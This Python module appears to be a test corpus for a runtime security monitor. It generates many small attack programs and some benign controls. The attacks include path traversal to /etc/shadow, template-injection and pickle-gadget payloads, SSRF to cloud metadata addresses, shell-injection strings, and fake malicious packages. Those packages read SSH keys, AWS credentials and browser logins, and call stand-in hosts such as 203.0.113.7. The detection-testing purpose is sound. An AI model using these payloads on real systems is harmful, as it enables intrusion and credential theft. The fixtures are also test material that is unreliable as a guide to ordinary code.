# SPDX-License-Identifier: GPL-2.0-only
"""Programs, each for itself, under the whole pack: attacks that take effect, and what means no harm.  PROGRAMS has of each its name, whether
it is an attack, its files, and how it is started (PY is the interpreter)."""

# A request in sight is the environ of whoever called; `text` is what the client sent.
SERVE = '''
from urllib.parse import quote
def serve(view, text, path="/x"):
    environ = {"REQUEST_METHOD": "GET", "SCRIPT_NAME": "", "PATH_INFO": path, "QUERY_STRING": "q=" + quote(text, safe=""),
               "REMOTE_ADDR": "203.0.113.9", "HTTP_HOST": "shop.example", "wsgi.version": (1, 0)}
    def app(environ):
        try:
            return view(text)
        except BaseException as e:
            print(type(e).__name__, e)
    return app(environ)
'''
PROGRAMS = []


def A(name, text, files=None, run="PY main.py"):
    PROGRAMS.append((name, True, dict({"main.py": text, "reqsim.py": SERVE}, **(files or {})), run))


def C(name, text, files=None, run="PY main.py"):
    PROGRAMS.append((name, False, dict({"main.py": text, "reqsim.py": SERVE}, **(files or {})), run))


R = "from reqsim import serve\nimport os, sys\n"
# Files by every way to open, list, move and link them: the client's text leads out of the folder.
A("1-path-read_text", R+"from pathlib import Path\nserve(lambda t: (Path('/srv/none/files')/t).read_text(), '../../../etc/hostname')")
A("1-path-open", R+"from pathlib import Path\nserve(lambda t: (Path('/srv/none')/t).open().read(), '../../etc/hostname')")
A("1-join", R+"serve(lambda t: open(os.path.join('/srv/none',t)).read(), '../../etc/hostname')")
A("1-fileio", R+"import io\nserve(lambda t: io.FileIO('/srv/none/'+t).read(), '../../etc/hostname')")
A("1-fileio-abs", R+"import io\nserve(lambda t: io.FileIO(t).read(), '/etc/shadow')")
A("1-open_code", R+"import io\nserve(lambda t: io.open_code('/srv/none/'+t).read(), '../../etc/hostname')")
A("1-chdir", R+"os.chdir('/etc'); print(len(open('shadow').read()))")
A("1-chdir-client", R+"serve(lambda t: (os.chdir(t), open('hostname').read()), '/etc')")
A("1-dirfd", R+"d=os.open('/etc',os.O_RDONLY)\nprint(os.read(os.open('shadow',os.O_RDONLY,dir_fd=d),10))")
A("1-dirfd-client", R+"d=os.open('/srv',os.O_RDONLY)\nserve(lambda t: os.read(os.open(t,os.O_RDONLY,dir_fd=d),10), '../etc/hostname')")
A("1-symlink", R+"os.symlink('/etc/shadow','l')\nprint(len(open('l').read()))")
A("1-symlink-client", R+"serve(lambda t: (os.symlink(t,'l2'),open('l2').read()), '/etc/hostname')")
A("1-procroot", R+"print(len(open('/proc/self/root/etc/shadow').read()))")
A("1-proccwd", R+"serve(lambda t: open(t).read(), '/proc/self/cwd/main.py')")
A("1-listdir", R+"serve(lambda t: os.listdir('/srv/none/'+t), '../../etc')")
A("1-scandir", R+"serve(lambda t: list(os.scandir('/srv/none/'+t)), '../../etc')")
A("1-unlink", R+"open('/srv/victim','w')\nserve(lambda t: os.unlink('/srv/none/'+t), '../victim')")
A("1-rename", R+"open('/srv/victim','w')\nserve(lambda t: os.rename('/srv/none/1-join/'+t,'here'), '../../victim')")
A("1-copyfile", R+"import shutil\nserve(lambda t: shutil.copyfile('/srv/none/'+t,'here'), '../../etc/hostname')")
A("1-zip", R+"import zipfile\nzipfile.ZipFile('a.zip','w').writestr('x','y')\nserve(lambda t: zipfile.ZipFile('/srv/none/'+t), '../pk/1-zip/a.zip')")
A("1-sqlite", R+"import sqlite3\nserve(lambda t: sqlite3.connect('/srv/none/'+t), '../../var/lib/x.db')")
A("1-write", R+"serve(lambda t: open('/srv/none/up/'+t,'w'), '../1-write/main2.py')\nimport os; os.makedirs('/srv/none/up',exist_ok=True)\nserve(lambda t: open('/srv/none/up/'+t,'w'), '../1-write/main2.py')")
A("1-linecache", R+"import linecache\nserve(lambda t: linecache.getlines('/srv/none/'+t), '../../etc/hostname')")
A("1-rmtree", R+"import shutil\nos.makedirs('/srv/vic/x',exist_ok=True)\nserve(lambda t: shutil.rmtree('/srv/none/'+t), '../vic')")
A("1-np", R+"import mmap\nserve(lambda t: os.open('/srv/none/'+t, os.O_RDONLY), '....//../../etc/hostname'.replace('....//','../'))")
A("1-send", R+"from werkzeug.utils import send_file\nserve(lambda t: send_file('/srv/none/'+t, {}), '../../etc/hostname')")
A("1-tarlink", R+"import tarfile,io\nt=tarfile.open('a.tar','w'); i=tarfile.TarInfo('l'); i.type=tarfile.SYMTYPE; i.linkname='/etc/passwd'; t.addfile(i); t.close()\ntarfile.open('a.tar').extractall('out')")
A("1-tarclimb", R+"import tarfile,io\nt=tarfile.open('a.tar','w'); i=tarfile.TarInfo('../../climbed'); t.addfile(i); t.close()\ntarfile.open('a.tar').extractall('out')")
# What templates do, of each engine and loader.
J="import jinja2\n"
A("2-jinja-eval-helper", R+J+"serve(lambda t: print(jinja2.Environment().from_string(t).render()), \"{{ lipsum.__globals__['__builtins__']['eval']('1+1') }}\")")
A("2-jinja-dict-eval", R+J+"print(jinja2.Environment(loader=jinja2.DictLoader({'a': \"{{ cycler.__init__.__globals__.__builtins__.eval('2*3') }}\"})).get_template('a').render())")
A("2-jinja-dict-exec", R+J+"print(jinja2.Environment(loader=jinja2.DictLoader({'a': \"{{ cycler.__init__.__globals__.__builtins__.exec('x=1') }}\"})).get_template('a').render())")
A("2-jinja-dict-popen", R+J+"print(jinja2.Environment(loader=jinja2.DictLoader({'a': \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"})).get_template('a').render())")
A("2-jinja-file-popen", R+J+"print(jinja2.Environment(loader=jinja2.FileSystemLoader('.')).get_template('a.html').render())", {"a.html":"{{ cycler.__init__.__globals__.os.popen('id').read() }}"})
A("2-jinja-file-system", R+J+"print(jinja2.Environment(loader=jinja2.FileSystemLoader('.')).get_template('a.j2').render())", {"a.j2":"{{ cycler.__init__.__globals__.os.system('true') }}"})
A("2-jinja-func-getenv", R+J+"print(jinja2.Environment(loader=jinja2.FunctionLoader(lambda n: \"{{ cycler.__init__.__globals__.os.getenv('SECRET') }}\")).get_template('a').render())")
A("2-jinja-file-open", R+J+"print(jinja2.Environment(loader=jinja2.FileSystemLoader('.')).get_template('a.txt').render())", {"a.txt":"{{ cycler.__init__.__globals__.__builtins__.open('/etc/hostname').read() }}"})
A("2-jinja-environ", R+J+"print(jinja2.Environment(loader=jinja2.DictLoader({'a': \"{% for k in cycler.__init__.__globals__.os.environ.items() %}{{k}}{% endfor %}\"})).get_template('a').render())")
A("2-tornado", R+"import tornado.template\nprint(tornado.template.Template(\"{% import os %}{{ os.popen('id').read() }}\").generate())")
A("2-tornado-client", R+"import tornado.template\nserve(lambda t: print(tornado.template.Template('Hi '+t).generate()), '{{ 7*7 }}')")
A("2-tornado-loader", R+"import tornado.template\nprint(tornado.template.Loader('.').load('a.html').generate())", {"a.html":"{% import os %}{{ os.getenv('X') }}"})
A("2-mako", R+"from mako.template import Template\nprint(Template(\"${__import__('os').popen('id').read()}\").render())")
A("2-mako-env", R+"from mako.template import Template\nprint(Template(\"<% import os %>${os.getenv('HOME')}\").render())")
A("2-mako-file", R+"from mako.template import Template\nprint(Template(filename='a.html',module_directory='mod').render())", {"a.html":"<% import os %>${os.popen('id').read()}"})
A("2-mako-client", R+"from mako.template import Template\nserve(lambda t: print(Template('Hi '+t).render()), '${7*7}')")
A("2-bottle-stpl", R+"import bottle\nserve(lambda t: print(bottle.template('Hi '+t)), '{{7*7}}!')")
A("2-bottle-popen", R+"import bottle\nprint(bottle.template(\"{{__import__('os').popen('id').read()}}!\"))")
DJ="import django\nfrom django.conf import settings\nsettings.configure(SECRET_KEY='k',TEMPLATES=[{'BACKEND':'django.template.backends.django.DjangoTemplates'}])\ndjango.setup()\nfrom django.template import Context, Template, engines\n"
A("8-django-messages", R+DJ+"print(Template('{{ messages.storages.0.signer.key }}').render(Context({})))")
A("8-django-engine", R+DJ+"print(engines['django'].from_string('{{ request.user.groups.model._meta.apps.app_configs }}').render({}))")
# Requests forged for the client, by each client library, and a cloud's metadata service in its spellings.
META="""import socket
"""
for i,s in enumerate(["169.254.169.254","169.254.43518","025177524776","2852039166","0xa9fea9fe","0251.0376.0251.0376","0xa9.0xfe.0xa9.0xfe","169.0376.0xa9fe","[0:0:0:0:0:ffff:a9fe:a9fe]","[::ffff:169.254.169.254]","169.16689662","[fd00:ec2::254]","00000251.0376.169.254"]):
    A("3-urllib-%02d"%i, "import urllib.request\ntry: urllib.request.urlopen('http://%s/latest',timeout=0.2)\nexcept Exception as e: print(e)"%s.replace("\uff11","１").replace("\uff16","６").replace("\uff19","９"))
A("3-aiohttp", "import aiohttp,asyncio\nasync def f():\n  async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=0.3)) as s:\n    await s.get('http://169.254.169.254/latest')\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-aiohttp-dec", "import aiohttp,asyncio\nasync def f():\n  async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=0.3)) as s:\n    await s.get('http://2852039166/latest')\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-aiohttp-uvloop", "import aiohttp,asyncio,uvloop\nuvloop.install()\nasync def f():\n  async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=0.3)) as s:\n    await s.get('http://169.254.169.254/latest')\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-httpx", "import httpx\ntry: httpx.get('http://169.254.169.254/latest',timeout=0.2)\nexcept BaseException as e: print(repr(e))")
A("3-httpx-async", "import httpx,asyncio\nasync def f():\n  async with httpx.AsyncClient(timeout=0.2) as c: await c.get('http://169.254.169.254/latest')\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-httpx-uvloop", "import httpx,asyncio,uvloop\nuvloop.install()\nasync def f():\n  async with httpx.AsyncClient(timeout=0.2) as c: await c.get('http://169.254.169.254/latest')\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-streams", "import asyncio\nasync def f(): await asyncio.wait_for(asyncio.open_connection('169.254.169.254',80),0.2)\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-streams-uvloop", "import asyncio,uvloop\nuvloop.install()\nasync def f(): await asyncio.wait_for(asyncio.open_connection('169.254.169.254',80),0.2)\ntry: asyncio.run(f())\nexcept BaseException as e: print(repr(e))")
A("3-redirect", """import http.server,threading,urllib.request
class H(http.server.BaseHTTPRequestHandler):
  def do_GET(s): s.send_response(302); s.send_header('Location','http://169.254.169.254/'); s.end_headers()
srv=http.server.HTTPServer(('127.0.0.1',0),H); threading.Thread(target=srv.serve_forever,daemon=True).start()
try: urllib.request.urlopen('http://127.0.0.1:%d/'%srv.server_port,timeout=0.3)
except Exception as e: print(e)
""")
A("3-hosts", "import socket,urllib.request\nr=socket.getaddrinfo\nimport os\nopen('hosts.sh','w')\norig=socket.getaddrinfo\nsocket.getaddrinfo=lambda h,p,*a,**k:[(2,1,6,'',('169.254.169.254',p))]\ntry: urllib.request.urlopen('http://inner.example/',timeout=0.2)\nexcept Exception as e: print(e)")
A("3-requests", "import requests\ntry: requests.get('http://169.254.43518/',timeout=0.2)\nexcept Exception as e: print(e)")
A("3-connect_ex", "import socket\ns=socket.socket(); s.settimeout(0.2); print(s.connect_ex(('169.254.169.254',80)))")
A("3-client-loopback", R+"import urllib.request\nserve(lambda t: urllib.request.urlopen(t,timeout=0.2), 'http://127.1:9/')")
A("3-client-redirecthost", R+"import http.client\nserve(lambda t: http.client.HTTPConnection(t,9,timeout=0.2).request('GET','/'), '0x7f000001')")
A("3-client-aiohttp", R+"import aiohttp,asyncio\nasync def f(t):\n  async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=0.3)) as s:\n    await s.get(t)\nserve(lambda t: asyncio.run(f(t)), 'http://127.0.0.1:9/admin')")
A("3-client-httpx", R+"import httpx\nserve(lambda t: httpx.get(t,timeout=0.2), 'http://localhost:9/')")
A("3-client-httpx-async", R+"import httpx,asyncio\nasync def f(t):\n  async with httpx.AsyncClient(timeout=0.2) as c: await c.get(t)\nserve(lambda t: asyncio.run(f(t)), 'http://127.0.0.1:9/')")
A("3-client-httpx-uvloop", R+"import httpx,asyncio,uvloop\nuvloop.install()\nasync def f(t):\n  async with httpx.AsyncClient(timeout=0.2) as c: await c.get(t)\nserve(lambda t: asyncio.run(f(t)), 'http://127.0.0.1:9/')")
A("3-client-ftp", R+"import ftplib\nserve(lambda t: ftplib.FTP(t,timeout=0.2), '127.0.0.1')")
A("3-client-smtp", R+"import smtplib\nserve(lambda t: smtplib.SMTP(t,9), '127.0.0.1')")
A("3-client-socket", R+"import socket\nserve(lambda t: socket.socket().connect((t,9)), '127.0.0.1')")
A("3-client-tornado", R+"import tornado.httpclient,asyncio\nasync def f(t): await tornado.httpclient.AsyncHTTPClient().fetch(t, request_timeout=0.3)\nserve(lambda t: asyncio.run(f(t)), 'http://127.0.0.1:9/')")
# Programs and names under event loops that have their own.
A("4-uvloop-exec-client", R+"import asyncio,uvloop\nuvloop.install()\nasync def f(t):\n  p=await asyncio.create_subprocess_exec('sh','-c','echo '+t); await p.wait()\nserve(lambda t: asyncio.run(f(t)), 'x; id')")
A("4-asyncio-exec-client", R+"import asyncio\nasync def f(t):\n  p=await asyncio.create_subprocess_exec('sh','-c','echo '+t); await p.wait()\nserve(lambda t: asyncio.run(f(t)), 'x; id')")
A("4-asyncio-shell-client", R+"import asyncio\nasync def f(t):\n  p=await asyncio.create_subprocess_shell('echo '+t); await p.wait()\nserve(lambda t: asyncio.run(f(t)), 'x; id')")
A("4-uvloop-shell-client", R+"import asyncio,uvloop\nuvloop.install()\nasync def f(t):\n  p=await asyncio.create_subprocess_shell('echo '+t); await p.wait()\nserve(lambda t: asyncio.run(f(t)), 'x; id')")
# The methods of uvloop's loop themselves.
UV="import asyncio,uvloop,socket\nuvloop.install()\nP=asyncio.Protocol\ndef go(make):\n  async def f(): await asyncio.wait_for(make(asyncio.get_running_loop()),0.3)\n  try: asyncio.run(f())\n  except BaseException as e: print(repr(e))\n"
A("4-uvloop-connect", UV+"go(lambda l: l.create_connection(P,'169.254.169.254',80))")
A("4-uvloop-connect-name", UV+"go(lambda l: l.create_connection(P,host='x.oast.fun',port=443))")
A("4-uvloop-sock_connect", UV+"s=socket.socket(); s.setblocking(False)\ngo(lambda l: l.sock_connect(s,('169.254.169.254',80)))")
A("4-uvloop-getaddrinfo", UV+"go(lambda l: l.getaddrinfo('metadata.google.internal',80))")
A("4-uvloop-executor", UV+"go(lambda l: l.run_in_executor(None,socket.gethostbyname,'x.oast.fun'))")
A("4-uvloop-client", R+UV+"serve(lambda t: go(lambda l: l.create_connection(P,t,9)), '127.0.0.1')")
A("4-uvloop-exec-attack", UV+"go(lambda l: l.subprocess_exec(asyncio.SubprocessProtocol,'sh','-c','true; id'))")
A("4-uvloop-exec-brought", UV+"exec(\"go(lambda l: asyncio.create_subprocess_exec('true'))\")")
C("4c-uvloop", UV+"go(lambda l: l.create_connection(P,'127.0.0.1',8080))\na,b=socket.socketpair(); go(lambda l: l.create_connection(P,sock=a))\ngo(lambda l: l.getaddrinfo('localhost',8080))\ngo(lambda l: asyncio.create_subprocess_exec('true'))\ngo(lambda l: asyncio.create_subprocess_shell('true'))\n")
for fn in ("getaddrinfo('%s',80)","gethostbyname('%s')","gethostbyname_ex('%s')"):
    n=fn.split("(")[0]
    A("4-"+n, "import socket\ntry: socket.%s\nexcept Exception as e: print(e)"%(fn%"x.oast.fun"))
    A("4-C-"+n, "import _socket\ntry: _socket.%s\nexcept Exception as e: print(e)"%(fn%"x.oast.fun"))
    A("4-gevent-"+n, "import gevent.monkey; gevent.monkey.patch_all()\nimport socket\ntry: socket.%s\nexcept Exception as e: print(e)"%(fn%"x.oast.fun"))
    A("4-meta-"+n, "import socket\ntry: socket.%s\nexcept Exception as e: print(e)"%(fn%"metadata.google.internal"))
    A("4-client-"+n, R+"import socket\nserve(lambda t: socket.%s, '127.0.0.1')"%(fn.replace("'%s'","t")))
A("4-gevent-connect", "import gevent.monkey; gevent.monkey.patch_all()\nimport urllib.request\ntry: urllib.request.urlopen('http://169.254.169.254/',timeout=0.2)\nexcept Exception as e: print(e)")
A("4-gevent-popen-client", R.replace("from reqsim","import gevent.monkey; gevent.monkey.patch_all()\nfrom reqsim")+"import subprocess\nserve(lambda t: subprocess.run('echo '+t,shell=True), 'x; id')")
for n,c in {"fork_exec":None,"pty":"import pty\nserve(lambda t: pty.spawn(['sh','-c','echo '+t]),'a;id')","spawnv":"serve(lambda t: os.spawnv(os.P_WAIT,'/bin/sh',['sh','-c','echo '+t]),'a;id')","execv":"serve(lambda t: os.execv('/bin/sh',['sh','-c','echo '+t]),'a;id')","execvp":"serve(lambda t: os.execvp('sh',['sh','-c','echo '+t]),'a;id')","execlp":"serve(lambda t: os.execlp('sh','sh','-c','echo '+t),'a;id')","posix_spawnp":"serve(lambda t: os.posix_spawnp('sh',['sh','-c','echo '+t],os.environ),'a;id')","popen":"serve(lambda t: os.popen('echo '+t).read(),'a;id')","getoutput":"import subprocess\nserve(lambda t: subprocess.getoutput('echo '+t),'a;id')"}.items():
    if c: A("4-run-"+n, R+c)
# Gadgets in pickles, and what data is made of.
P="""import pickle,sys
class G:
    def __init__(s,f,*a): s.f=f;s.a=a
    def __reduce__(s): return s.f,s.a
def go(f,*a,loads=pickle.loads,proto=4):
    d=pickle.dumps(G(f,*a),proto)
    try: print(loads(d))
    except Exception as e: print(repr(e))
"""
for n,c in {"methodcaller":"import operator,os\nclass X:\n  def __reduce__(s): return operator.methodcaller('system','true'),(os,)\ngo(operator.methodcaller,'x')","attrgetter":"import operator\ngo(operator.attrgetter,'a.b')","fileio":"import _io\ngo(_io.FileIO,'pwned','w')","filehandler":"import logging\ngo(logging.FileHandler,'pwned')","zipfile":"import zipfile\ngo(zipfile.ZipFile,'pwned','w')","functype":"import types,marshal\nsrc=b\"cmarshal\\nloads\\n(S'x'\\ntR.\"\ntry: pickle.loads(src)\nexcept Exception as e: print(e)","functype-py":"try: pickle._loads(b\"cmarshal\\nloads\\n(S'x'\\ntR.\")\nexcept Exception as e: print(e)","types-py":"import io\ntry: pickle._loads(b\"ctypes\\nFunctionType\\n.\")\nexcept Exception as e: print(e)","codecs-open":"import codecs\ngo(codecs.open,'pwned','w')","tempfile":"import tempfile\ngo(tempfile.mkdtemp)","linecache":"import linecache\ngo(linecache.getlines,'/etc/hostname')","sqlite":"import sqlite3\ngo(sqlite3.connect,'pwned')","glob":"import glob\ngo(glob.glob,'/etc/*')","imp":"import imp\ngo(imp.load_source,'x','main.py')","unittest":"import unittest.mock\ngo(unittest.mock.patch,'os.system')","pkgutil":"import pkgutil\ngo(pkgutil.resolve_name,'os:system')","doctest":"import doctest\ngo(doctest.testfile,'main.py')","trace":"import trace\ngo(trace.Trace)","dotted-app":"import helper\ntry: print(pickle.loads(b'\\x80\\x04\\x8c\\x06helper\\x8c\\x09os.system\\x93.'))\nexcept Exception as e: print(e)","app-system":"import helper\ntry: print(pickle.loads(b'\\x80\\x04\\x8c\\x06helper\\x8c\\x06system\\x93.'))\nexcept Exception as e: print(e)","numpy":"import numpy.testing._private.utils as u\ngo(u.runstring,'open(\"pwned\",\"w\")',{})","os-py":"go(__import__('os').system,'true',loads=pickle._loads)","gc":"import gc\ngo(gc.get_objects)","inspect":"import inspect\ngo(inspect.getsource,G)","email":"import mailbox\ngo(mailbox.mbox,'pwned')","uu":"import distutils.file_util as d\ngo(d.write_file,'pwned',['a'])","smtpd":"import socketserver\ngo(socketserver.TCPServer,('127.0.0.1',0),None)","stdlib-new":"import venv\ngo(venv.create,'vv')","copyreg":"try: print(pickle.loads(b\"ccollections\\n_sys.modules\\n.\")); \nexcept Exception as e: print(e)\ntry: pickle.loads(b'\\x80\\x04\\x8c\\x0bcollections\\x8c\\x0c_sys.modules\\x93.')\nexcept Exception as e: print(e)"}.items():
    A("5-"+n, P+c, {"helper.py":"import os\nfrom os import system\n"})
C("5c-plain", P+"""
import datetime,decimal,uuid,fractions,pathlib,ipaddress,enum,collections,functools,re,operator,array,random
import models
class Color(enum.Enum): RED=1
for p in range(5):
  for o in (datetime.datetime.now(datetime.timezone.utc),datetime.timedelta(1),decimal.Decimal('1'),uuid.uuid4(),fractions.Fraction(1,2),pathlib.Path('/x'),ipaddress.ip_address('1.2.3.4'),collections.OrderedDict(a=1),collections.defaultdict(list),collections.Counter('a'),collections.deque([1]),models.User('a'),models.Color.RED,models.P(1,2),{1,2},frozenset([1]),b'abc',bytearray(b'x'),1j,range(3),slice(1,2) if p>1 else 1,ValueError('x'),OSError(1,'x'),KeyError('x'),models.Err('x'),re.compile('a'),array.array('i',[1]),random.Random(1),len,models.User.greet,models.User('b').greet,functools.partial(models.f,1),(1,2),'x',None,type(None) if p>1 else 1,Exception,NotImplemented,Ellipsis):
    try: d=pickle.dumps(o,p)
    except Exception as e: continue
    pickle.loads(d)
    pickle._loads(d)
print('done')
""", {"models.py":"import enum,collections,dataclasses\nclass User:\n  def __init__(s,n): s.n=n\n  def greet(s): pass\nclass Color(enum.Enum): RED=1\nP=collections.namedtuple('P','a b')\nclass Err(Exception): pass\ndef f(a): pass\n@dataclasses.dataclass\nclass D:\n  a:int=1\n"})
C("5c-numpy", P+"import numpy as np\nfor o in (np.arange(3),np.float64(1),np.dtype('i4'),np.datetime64('2020-01-01'),np.random.RandomState(1),np.ma.array([1])):\n  for p in range(6):\n    try: pickle.loads(pickle.dumps(o,p))\n    except Exception as e: print(e)\n")
C("5c-shelve", "import shelve,datetime\nwith shelve.open('s') as s: s['a']=datetime.date.today(); print(s['a'])\n")
# Borrowed names, and what lies below the library.
A("6-fork_exec", "import sys\nsys.path.insert(0,'evil')\nimport importlib.util\nsp=importlib.util.spec_from_file_location('esub','evil/subprocess.py'); m=importlib.util.module_from_spec(sp); sp.loader.exec_module(m)\nm.go()", {"evil/subprocess.py":"import _posixsubprocess,os\ndef go():\n    r,w=os.pipe()\n    a=[[b'/bin/true'],[b'/bin/true'],True,(w,),None,None,-1,-1,-1,-1,-1,-1,r,w,False,False]\n    a+=[-1,None,None,None,-1,None,False] if __import__('sys').version_info>=(3,11) else [None,None,None,-1,None]\n    print(_posixsubprocess.fork_exec(*a))\n"})
A("6-execv", "import importlib.util\nsp=importlib.util.spec_from_file_location('eos','evil/os.py'); m=importlib.util.module_from_spec(sp); sp.loader.exec_module(m)\nm.go()", {"evil/os.py":"import posix\ndef go(): posix.execv('/bin/true',['true'])\n"})
A("6-spawn", "import importlib.util\nsp=importlib.util.spec_from_file_location('eos','evil/subprocess.py'); m=importlib.util.module_from_spec(sp); sp.loader.exec_module(m)\nm.go()", {"evil/subprocess.py":"import posix\ndef go(): posix.posix_spawn('/bin/true',['true'],{})\n"})
A("6-getpass", "import importlib.util\nsp=importlib.util.spec_from_file_location('eos','evil/getpass.py'); m=importlib.util.module_from_spec(sp); sp.loader.exec_module(m)\nm.go()", {"evil/getpass.py":"def go(): print(len(open('/etc/shadow').read()))\n"})
A("6-compile-name", "import subprocess\nc=compile('import _posixsubprocess,posix\\nposix.execv(\"/bin/true\",[\"true\"])',subprocess.__file__,'exec')\nexec(c)")
A("6-compile-os", "import os\nc=compile('import posix\\nposix.execv(\"/bin/true\",[\"true\"])','<frozen os>','exec')\nexec(c)")
A("6-dlopen", "import _ctypes\nh=_ctypes.dlopen('libc.so.6',2)\nprint(_ctypes.dlsym(h,'getpid'))\nprint(_ctypes.call_function(_ctypes.dlsym(h,'getpid'),()))")
A("6-dlsym-loaded", "import _ctypes\nprint(_ctypes.call_function(_ctypes.dlsym(_ctypes.dlopen(None,2),'getppid'),()))")
# Applications in folders that look like a library's.
for d in ("srv/python/app","opt/python/current/app","home/x/python3.9/app"):
    A("7-" + d.replace("/", "_"), "x", {d+"/main.py":"import marshal\nmarshal.loads(marshal.dumps(1))\n"}, run="PY %s/main.py"%d)
A("7-site", "import sys\nsys.path.insert(0,'lib/python3.11/site-packages')\nimport shopapp\nfrom reqsim import serve\nserve(shopapp.view,'__import__(\"os\").getpid()')", {"lib/python3.11/site-packages/shopapp/__init__.py":"def view(t): print(eval(t))\n"})
# Poisoned packages.
SP="lib/python3.11/site-packages/"
def pk(name, text, where=SP, main="import sys\nsys.path.insert(0,%r)\nimport evilpkg"):
    A("8-"+name, main%where.rstrip("/"), {where+"evilpkg/__init__.py":text})
pk("requests", "import requests\ntry: requests.get('http://203.0.113.7:8080/x',timeout=0.2)\nexcept Exception: pass")
pk("connect", "import socket\ns=socket.socket(); s.settimeout(0.2)\ntry: s.connect(('203.0.113.7',80))\nexcept Exception: pass")
pk("urllib", "import urllib.request\ntry: urllib.request.urlopen('http://203.0.113.7/',timeout=0.2)\nexcept Exception: pass")
pk("aio", "import asyncio\nasync def f(): await asyncio.wait_for(asyncio.open_connection('203.0.113.7',80),0.2)\ntry: asyncio.run(f())\nexcept Exception: pass")
pk("dns", "import socket\ntry: socket.gethostbyname('x.evil.example')\nexcept Exception: pass")
pk("environ", "import os,json\njson.dumps(dict(os.environ))")
pk("environ-copy", "import os\nos.environ.copy()")
pk("environ-items", "import os\n[f'{k}={v}' for k,v in os.environ.items()]")
pk("environ-env", "import os\nos.getenv('AWS_SECRET_ACCESS_KEY')")
pk("procenv", "open('/proc/self/environ','rb').read()")
pk("dropper", "import subprocess,sys\nsubprocess.Popen([sys.executable,'-c','pass'])")
pk("curl", "import os\nos.system('true http://203.0.113.7/x')")
pk("spawn", "import os\nos.posix_spawn('/bin/true',['true'],{})")
pk("exec64", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zLHN1YnByb2Nlc3M7cHJpbnQoMSk='))")
pk("execzlib", "import base64,zlib\nexec(zlib.decompress(zlib.compress(b'import os;os.getpid()')))")
pk("ssh", "import os\ntry: open(os.path.expanduser('~/.ssh/id_rsa'))\nexcept Exception: pass")
pk("aws", "import pathlib\ntry: pathlib.Path('~/.aws/credentials').expanduser().read_text()\nexcept Exception: pass")
pk("browser", "import os\ntry: open('/root/.config/google-chrome/Default/Login Data')\nexcept Exception: pass")
pk("beside-requests", "import requests\ntry: requests.get('http://203.0.113.7:8080/x',timeout=0.2)\nexcept Exception: pass", where="", main="# %s\nimport evilpkg")
pk("beside-prog", "import subprocess,sys\nsubprocess.Popen([sys.executable,'-c','pass'])", where="", main="# %s\nimport evilpkg")
pk("beside-env", "import os,json\njson.dumps(dict(os.environ))", where="", main="# %s\nimport evilpkg")
pk("vendor-dns", "import socket\ntry: socket.gethostbyname('x.evil.example')\nexcept Exception: pass", where="vendor/")
A("8-setup-py", "from setuptools import setup\nimport os\nos.system('true')\nimport urllib.request\ntry: urllib.request.urlopen('http://203.0.113.7/',timeout=0.2)\nexcept Exception: pass\n", run="cp main.py setup.py; PY setup.py")
# Command lines, by what the shell makes of the client's text.
for i,t in enumerate([";cat /etc/passwd","\ncat /etc/passwd",";/usr/bin/id",";c'a't /etc/hostname","; c\\at /etc/hostname","</etc/passwd","&id","||id","`id`","$(id)","a;id","a|id","a\nid","a&&id",">/dev/null","${PATH}","$IFS;id","'\"; id; \"'"]):
    A("9-%02d"%i, R+"import subprocess\nserve(lambda t: subprocess.run('true host'+t,shell=True), %r)"%t)

A("8-environ-template", R+"import jinja2\nprint(jinja2.Environment().from_string('{{ o.environ.copy() }}').render(o=__import__('os')))")
# Programs that mean no harm, as libraries, tools and frameworks start and run.
C("12-c", "x", run="PY -c 'import os,subprocess,socket; os.getenv(\"SECRET_TOKEN\"); subprocess.run([\"true\"]); socket.getaddrinfo(\"localhost\",80); s=socket.socket(); s.bind((\"127.0.0.1\",0))'")
C("12-c-func", "x", run="PY -c '\nimport os,subprocess,threading\ndef f(): os.getenv(\"A\"); subprocess.run([\"true\"])\nf()\nt=threading.Thread(target=f); t.start(); t.join()\n'")
C("12-stdin", "import os,subprocess,socket,threading\ndef f():\n  os.getenv('A'); subprocess.run(['true'])\nf()\nt=threading.Thread(target=f); t.start(); t.join()\n", run="sh -c 'PY - < main.py'".replace("'","\""))
POOL="import multiprocessing,os,subprocess\ndef f(x):\n  os.getenv('A'); subprocess.run(['true']); return x\nif __name__=='__main__':\n  multiprocessing.set_start_method(%r)\n  with multiprocessing.Pool(2) as p: print(p.map(f,range(6)))\n"
for m in ("fork","spawn","forkserver"): C("12-pool-"+m, POOL%m)
C("12-ppe", "import concurrent.futures as c,os,multiprocessing\ndef f(x):\n  os.getenv('A'); return os.getpid()\nif __name__=='__main__':\n  with c.ProcessPoolExecutor(2,mp_context=multiprocessing.get_context('spawn')) as p: print(list(p.map(f,range(6)))); print(list(p.map(os.path.basename,['a/b'])))\n")
C("12-manager", "import multiprocessing\nif __name__=='__main__':\n  with multiprocessing.Manager() as m:\n    d=m.dict(); d['a']=1; q=m.Queue(); q.put(2); print(q.get(),dict(d))\n")
C("12-uvicorn-workers", "async def app(scope,receive,send):\n  if scope['type']!='http': return\n  await send({'type':'http.response.start','status':200,'headers':[]}); await send({'type':'http.response.body','body':b'x'})\n", run="sh -c 'PY -m uvicorn --workers 2 --port 8917 main:app & p=$!; sleep 5; curl -s http://127.0.0.1:8917/; kill $p; sleep 1; true'".replace("'",'"').replace('$p','\\$p').replace('$!','\\$!'))
